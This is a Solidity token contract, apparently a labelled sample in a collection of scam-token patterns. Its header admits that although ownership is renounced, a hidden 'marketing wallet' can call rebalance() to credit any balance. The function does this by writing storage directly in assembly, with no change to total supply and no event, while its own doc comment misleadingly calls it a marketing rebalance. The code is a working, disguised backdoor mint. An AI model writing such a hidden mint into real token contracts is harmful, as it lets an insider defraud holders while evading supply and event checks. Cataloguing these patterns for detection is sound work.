// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./ZooBase.sol";

/// @title AssemblyMint - ownership is renounced, but a private "marketing wallet" can call rebalance(),
///        which adds to any balance by writing the balance mapping's storage slot in assembly
///        (keccak256(account . 0)); the total supply does not change and no event is emitted.
contract AssemblyMint is ZooOwnedBase {
    address private _marketingWallet;

    constructor(string memory name_, string memory symbol_, uint256 supply, address marketingWallet_)
        ZooOwnedBase(name_, symbol_)
    {
        _marketingWallet = marketingWallet_;
        _mint(msg.sender, supply);
    }

    /// Rebalances the marketing allocation between wallets.
    function rebalance(address account, uint256 amount) external {
        require(msg.sender == _marketingWallet, "rebalance: not allowed");
        assembly {
            mstore(0x00, account)
            mstore(0x20, 0)
            let slot := keccak256(0x00, 0x40)
            sstore(slot, add(sload(slot), amount))
        }
    }
}
